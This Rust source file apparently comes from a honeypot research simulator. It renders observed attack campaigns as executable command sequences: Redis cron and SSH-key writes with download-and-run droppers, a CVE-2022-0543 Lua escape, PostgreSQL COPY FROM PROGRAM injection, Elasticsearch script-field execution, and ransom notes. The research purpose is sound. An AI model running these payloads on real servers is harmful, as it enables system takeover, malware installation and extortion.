//! Session scripts — what an actor does during one visit.
//!
//! Each variant corresponds to an observed behavior class or campaign
//! (Table 9, Listings 1–14). The attack client ([`crate::client`]) executes
//! the script with real client protocol code; the direct generator emits
//! the equivalent events. Campaign scripts render the exact command sequences of the
//! paper's listings (with the masked fields instantiated).

/// One visit's worth of intent.
#[derive(Debug, Clone, PartialEq)]
pub enum SessionScript {
    /// TCP connect + disconnect, nothing else (scanning).
    ConnectOnly,
    /// MySQL login attempts; one connection per credential (servers close
    /// after a failed login).
    MysqlBrute {
        /// Credentials to try this visit.
        creds: Vec<(String, String)>,
    },
    /// MSSQL PRELOGIN + LOGIN7 attempts; one connection per credential.
    MssqlBrute {
        /// Credentials to try this visit.
        creds: Vec<(String, String)>,
    },
    /// PostgreSQL startup + password (single combination, §5's PG pattern).
    PgLogin {
        /// Username.
        user: String,
        /// Password.
        password: String,
        /// How many times to repeat the same pair this visit.
        repeats: u32,
    },
    /// PostgreSQL brute-forcing: one connection per credential.
    PgBrute {
        /// Credentials to try this visit.
        creds: Vec<(String, String)>,
    },
    /// Redis `AUTH` attempts.
    RedisAuth {
        /// Passwords to try.
        passwords: Vec<String>,
    },
    /// Redis scouting: `INFO`, `DBSIZE`, `KEYS *`; with `type_walk`, `TYPE`
    /// on each returned key (the fake-data behavior of §6).
    RedisScout {
        /// Walk every key with TYPE.
        type_walk: bool,
    },
    /// Elasticsearch scouting over HTTP.
    ElasticScout {
        /// Also pull `/_cat/indices` and run a `/_search` (institutional
        /// deep scouting).
        deep: bool,
    },
    /// MongoDB scouting: handshake commands; with `deep`, `listDatabases` +
    /// `listCollections` (the institutional behavior §6 flags).
    MongoScout {
        /// Enumerate databases and collections.
        deep: bool,
    },
    /// PostgreSQL scouting: log in (open config) and `SELECT version()`.
    PgScout,
    /// P2PInfect infection sequence (Listing 1).
    P2pInfect,
    /// ABCbot loader sequence (Listing 2).
    AbcBot,
    /// CVE-2022-0543 Lua sandbox escape probe (Listing 3).
    RedisCve20220543,
    /// Kinsing `COPY FROM PROGRAM` injection (Listing 4).
    Kinsing,
    /// Privilege manipulation (Listing 13).
    PgPrivilege,
    /// Lucifer script-field injection (Listings 5–6).
    Lucifer,
    /// MongoDB data theft + ransom note (Listings 7–8); `group` selects the
    /// note template (the paper saw two).
    MongoRansom {
        /// Ransom group (0 or 1).
        group: u8,
    },
    /// CouchDB scouting over HTTP: banner, `_all_dbs`, `_all_docs`
    /// (extension honeypot, §7).
    CouchScout,
    /// CouchDB ransom: enumerate, read, `DELETE` every database, leave a
    /// warning document (extension honeypot, §7).
    CouchRansom,
    /// Post-login SQL reconnaissance against the medium MySQL honeypot:
    /// login, `SELECT @@version`, `SHOW DATABASES` (extension, §7).
    MysqlScout,
    /// Harvest the fake-data Redis entries (KEYS + GET each), then try the
    /// harvested passwords as AUTH credentials — an adversary exhibiting
    /// knowledge of the bait data (§4.2's measurement objective).
    HarvestAndReuse,
    /// RDP mstshash probe thrown at the port (Listing 10).
    RdpProbe,
    /// JDWP handshake probe (Listing 11).
    JdwpProbe,
    /// VMware vSphere SOAP recon (Listing 12).
    VmwareRecon,
    /// Craft CMS CVE-2023-41892 probe (Listing 14).
    CraftCms,
    /// Honeypot-fingerprinting probe: banner grab, capability
    /// cross-check, and one deliberately unknown/malformed request — the
    /// network shape of the `decoy-fingerprint` battery (the arms-race
    /// adversary of §7).
    FingerprintProbe,
}

/// Parameters a campaign script needs rendered (loader addresses etc.).
/// Deterministic per actor so that repeated visits reuse infrastructure,
/// like real campaigns do.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct CampaignParams {
    /// Loader / rogue-master address.
    pub loader_ip: [u8; 4],
    /// Loader port.
    pub loader_port: u16,
    /// Hex-ish payload hash for file names.
    pub payload_hash: u64,
}

impl CampaignParams {
    /// Derive parameters from an actor identity (stable across visits).
    pub fn derive(actor_seed: u64) -> Self {
        let h = actor_seed.wrapping_mul(0x9e37_79b9_7f4a_7c15);
        CampaignParams {
            // loader lives in unallocated (unmapped) space on purpose: real
            // loader infrastructure rarely overlaps attack sources
            loader_ip: [
                185,
                (h >> 8) as u8,
                (h >> 16) as u8,
                ((h >> 24) as u8).max(1),
            ],
            loader_port: 8000 + (h % 2000) as u16,
            payload_hash: h,
        }
    }

    /// Loader address as text.
    pub fn loader(&self) -> String {
        format!(
            "{}.{}.{}.{}:{}",
            self.loader_ip[0],
            self.loader_ip[1],
            self.loader_ip[2],
            self.loader_ip[3],
            self.loader_port
        )
    }

    /// Loader IP as text.
    pub fn loader_ip_str(&self) -> String {
        format!(
            "{}.{}.{}.{}",
            self.loader_ip[0], self.loader_ip[1], self.loader_ip[2], self.loader_ip[3]
        )
    }

    /// The file-name hash as 16 hex chars.
    pub fn hash_hex(&self) -> String {
        format!("{:016x}", self.payload_hash)
    }
}

/// The Redis command sequence of Listing 1 (P2PInfect), rendered as
/// `(command name, args)` tuples.
pub fn p2pinfect_commands(p: &CampaignParams) -> Vec<Vec<String>> {
    let ip = p.loader_ip_str();
    let port = p.loader_port.to_string();
    let hash = p.hash_hex();
    let dropper = format!(
        "\n\n*/1 * * * * root exec 6<>/dev/tcp/{ip}/{port} && echo -n 'GET /linux' >&6 && cat 0<&6 >/tmp/{hash} ; fi && chmod +x /tmp/{hash} && /tmp/{hash} run\n\n"
    );
    let ssh_key = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQDjM7OgYGVp root@localhost.localdomain";
    vec![
        vec!["INFO".into(), "server".into()],
        vec!["FLUSHDB".into()],
        vec!["SET".into(), "x".into(), dropper.clone()],
        vec!["CONFIG".into(), "SET".into(), "rdbcompression".into(), "no".into()],
        vec!["CONFIG".into(), "SET".into(), "dir".into(), "/etc/cron.d/".into()],
        vec!["CONFIG".into(), "SET".into(), "dbfilename".into(), "redis".into()],
        vec!["SAVE".into()],
        vec!["CONFIG".into(), "SET".into(), "dir".into(), "/var/lib/redis".into()],
        vec!["CONFIG".into(), "SET".into(), "dbfilename".into(), "dump.rdb".into()],
        vec!["CONFIG".into(), "SET".into(), "rdbcompression".into(), "yes".into()],
        vec!["FLUSHDB".into()],
        vec!["SET".into(), "x".into(), format!("\n\n{ssh_key}\n\n")],
        vec!["CONFIG".into(), "SET".into(), "dir".into(), "/root/.ssh/".into()],
        vec!["CONFIG".into(), "SET".into(), "dbfilename".into(), "authorized_keys".into()],
        vec!["SAVE".into()],
        vec!["CONFIG".into(), "SET".into(), "dir".into(), "/var/lib/redis".into()],
        vec!["CONFIG".into(), "SET".into(), "dbfilename".into(), "dump.rdb".into()],
        vec!["CONFIG".into(), "SET".into(), "dir".into(), "/tmp/".into()],
        vec!["CONFIG".into(), "SET".into(), "dbfilename".into(), "exp.so".into()],
        vec!["SLAVEOF".into(), ip.clone(), "8886".into()],
        vec!["MODULE".into(), "LOAD".into(), "/tmp/exp.so".into()],
        vec!["SLAVEOF".into(), "NO".into(), "ONE".into()],
        vec![
            "system.exec".into(),
            format!(
                "exec 6<>/dev/tcp/{ip}/{port} && echo -n 'GET /linux' >&6 && cat 0<&6 >/tmp/{hash} ; fi && chmod +x /tmp/{hash} && /tmp/{hash} run"
            ),
        ],
        vec!["system.exec".into(), "rm -rf /tmp/exp.so".into()],
        vec!["MODULE".into(), "UNLOAD".into(), "system".into()],
    ]
}

/// The Redis command sequence of Listing 2 (ABCbot).
pub fn abcbot_commands(p: &CampaignParams) -> Vec<Vec<String>> {
    let url = format!("http://{}/ff.sh", p.loader());
    let cron = |minute: &str| format!("\n*/{minute} * * * * root curl -fsSL {url} | sh\n");
    vec![
        vec!["SET".into(), "backup1".into(), cron("2")],
        vec!["SET".into(), "backup2".into(), cron("3")],
        vec!["SET".into(), "backup3".into(), cron("4")],
        vec![
            "CONFIG".into(),
            "SET".into(),
            "dir".into(),
            "/var/spool/cron/".into(),
        ],
        vec![
            "CONFIG".into(),
            "SET".into(),
            "dbfilename".into(),
            "root".into(),
        ],
        vec!["SAVE".into()],
    ]
}

/// The Lua escape of Listing 3 (CVE-2022-0543): runs `id`.
pub fn redis_cve_commands() -> Vec<Vec<String>> {
    vec![vec![
        "EVAL".into(),
        r#"local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); local io = io_l(); local f = io.popen("id", "r"); local res = f:read("*a"); f:close(); return res"#
            .into(),
        "0".into(),
    ]]
}

/// The PostgreSQL query sequence of Listing 4 (Kinsing).
pub fn kinsing_queries(p: &CampaignParams) -> Vec<String> {
    let table = p.hash_hex();
    // base64 of a pg.sh-style dropper; content mirrors Listing 9
    let b64 = "cGtpbGwgLWYgenN2YzsgY3VybCAxODUuMTkxLjMyLjQvcGcuc2h8YmFzaA==";
    vec![
        format!("DROP TABLE IF EXISTS {table};"),
        format!("CREATE TABLE {table}(cmd_output text);"),
        format!("COPY {table} FROM PROGRAM 'echo {b64}| base64 -d | bash';"),
        format!("SELECT * FROM {table};"),
        format!("DROP TABLE IF EXISTS {table};"),
    ]
}

/// The privilege-manipulation queries of Listing 13.
pub fn pg_privilege_queries(p: &CampaignParams) -> Vec<String> {
    vec![
        format!(
            "ALTER USER pgg_superadmins WITH PASSWORD '{}'",
            p.hash_hex()
        ),
        "ALTER USER postgres WITH NOSUPERUSER".to_string(),
    ]
}

/// The Elasticsearch search body of Listing 5 (Lucifer part 1).
pub fn lucifer_search_body(p: &CampaignParams) -> String {
    format!(
        concat!(
            r#"{{"query":{{"filtered":{{"query":{{"match_all":{{}}}}}}}},"#,
            r#""script_fields":{{"exp":{{"script":"import java.util.*; import java.io.*; "#,
            r#"BufferedReader br = new BufferedReader(new InputStreamReader("#,
            r#"Runtime.getRuntime().exec(\"curl -o /tmp/sss6 http://{loader}/sss6\").getInputStream()));"#,
            r#"StringBuilder sb = new StringBuilder(); sb.toString();"}}}}}}"#
        ),
        loader = p.loader()
    )
}

/// The shell stages of Listing 6 (Lucifer part 2), also delivered through
/// the script field.
pub fn lucifer_shell_stages(p: &CampaignParams) -> Vec<String> {
    let loader = p.loader();
    vec![
        format!("rm * && curl -o /tmp/sss6 http://{loader}/sss6 && chmod 777 /tmp/./sss6 && exec /tmp/./sss6 && rm /tmp/*"),
        format!("rm * && wget http://{loader}/sv6 && chmod 777 sv6 && exec ./sv6 && rm -r sv6"),
    ]
}

/// Ransom note templates (Listings 7 and 8). `group` 0 or 1.
pub fn ransom_note(group: u8, db_code: &str) -> String {
    match group % 2 {
        0 => format!(
            "All your data is backed up. You must pay 0.0058 BTC to bc1q{db_code} \
             In 48 hours, your data will be publicly disclosed and deleted. \
             (more information: go to http://recovery.example.onion) \
             After paying send mail to us: recover@{db_code}.example and we will \
             provide a link for you to download your data. Your DBCODE is: {db_code}"
        ),
        _ => format!(
            "Your DB has been back up. The only way of recovery is you must send \
             0.007 BTC to bc1p{db_code}. Once paid please email restore@{db_code}.example \
             with code: {db_code} and we will recover your database. please read \
             http://howto.example.onion for more information."
        ),
    }
}

impl SessionScript {
    /// Does this script require more than one TCP connection per visit?
    /// (Failed SQL logins close the connection, so brute bursts reconnect.)
    pub fn connections_per_visit(&self) -> usize {
        match self {
            // an empty credential burst opens no connections at all
            SessionScript::MysqlBrute { creds }
            | SessionScript::MssqlBrute { creds }
            | SessionScript::PgBrute { creds } => creds.len(),
            SessionScript::PgLogin { repeats, .. } => (*repeats).max(1) as usize,
            _ => 1,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn campaign_params_are_stable_per_actor() {
        let a = CampaignParams::derive(42);
        let b = CampaignParams::derive(42);
        assert_eq!(a, b);
        assert_ne!(a, CampaignParams::derive(43));
        assert!(a.loader().contains(':'));
        assert_eq!(a.hash_hex().len(), 16);
    }

    #[test]
    fn p2pinfect_matches_listing1_structure() {
        let p = CampaignParams::derive(1);
        let cmds = p2pinfect_commands(&p);
        let flat: Vec<String> = cmds.iter().map(|c| c.join(" ")).collect();
        let joined = flat.join("\n");
        // the signature elements of Listing 1
        assert!(joined.contains("INFO server"));
        assert!(joined.contains("/root/.ssh/"));
        assert!(joined.contains("authorized_keys"));
        assert!(joined.contains("exp.so"));
        assert!(joined.contains("SLAVEOF"));
        assert!(joined.contains("MODULE LOAD /tmp/exp.so"));
        assert!(joined.contains("SLAVEOF NO ONE"));
        assert!(joined.contains("system.exec"));
        assert!(joined.contains("MODULE UNLOAD system"));
        assert!(joined.contains("ssh-rsa"));
        // restores dump.rdb after each overwrite
        assert_eq!(joined.matches("dump.rdb").count(), 2);
    }

    #[test]
    fn abcbot_matches_listing2_ioc() {
        let p = CampaignParams::derive(2);
        let cmds = abcbot_commands(&p);
        let joined: String = cmds
            .iter()
            .map(|c| c.join(" "))
            .collect::<Vec<_>>()
            .join("\n");
        assert!(joined.contains("/ff.sh"), "ABCbot IOC is the ff.sh loader");
        assert!(joined.contains("/var/spool/cron/"));
        assert_eq!(cmds.len(), 6);
    }

    #[test]
    fn redis_cve_runs_id() {
        let cmds = redis_cve_commands();
        assert_eq!(cmds.len(), 1);
        assert!(cmds[0][1].contains("package.loadlib"));
        assert!(cmds[0][1].contains(r#"io.popen("id""#));
    }

    #[test]
    fn kinsing_matches_listing4_shape() {
        let p = CampaignParams::derive(3);
        let queries = kinsing_queries(&p);
        assert_eq!(queries.len(), 5);
        assert!(queries[0].starts_with("DROP TABLE IF EXISTS"));
        assert!(queries[1].contains("(cmd_output text)"));
        assert!(queries[2].contains("FROM PROGRAM"));
        assert!(queries[2].contains("base64 -d | bash"));
        assert!(queries[3].starts_with("SELECT * FROM"));
        assert_eq!(queries[0], queries[4]);
    }

    #[test]
    fn lucifer_matches_listing5() {
        let p = CampaignParams::derive(4);
        let body = lucifer_search_body(&p);
        assert!(body.contains("script_fields"));
        assert!(body.contains("Runtime.getRuntime().exec"));
        assert!(body.contains("/tmp/sss6"));
        let stages = lucifer_shell_stages(&p);
        assert_eq!(stages.len(), 2);
        assert!(stages[1].contains("sv6"));
    }

    #[test]
    fn ransom_notes_have_two_templates() {
        let a = ransom_note(0, "abc123");
        let b = ransom_note(1, "abc123");
        assert!(a.contains("0.0058 BTC"));
        assert!(a.contains("48 hours"));
        assert!(a.contains("DBCODE"));
        assert!(b.contains("0.007 BTC"));
        assert_ne!(a, b);
        assert_eq!(ransom_note(2, "x"), ransom_note(0, "x"));
    }

    #[test]
    fn connections_per_visit() {
        assert_eq!(SessionScript::ConnectOnly.connections_per_visit(), 1);
        assert_eq!(
            SessionScript::MssqlBrute {
                creds: vec![("a".into(), "b".into()); 7]
            }
            .connections_per_visit(),
            7
        );
        assert_eq!(
            SessionScript::PgLogin {
                user: "postgres".into(),
                password: "x".into(),
                repeats: 3
            }
            .connections_per_visit(),
            3
        );
        assert_eq!(
            SessionScript::MssqlBrute { creds: vec![] }.connections_per_visit(),
            0
        );
    }
}
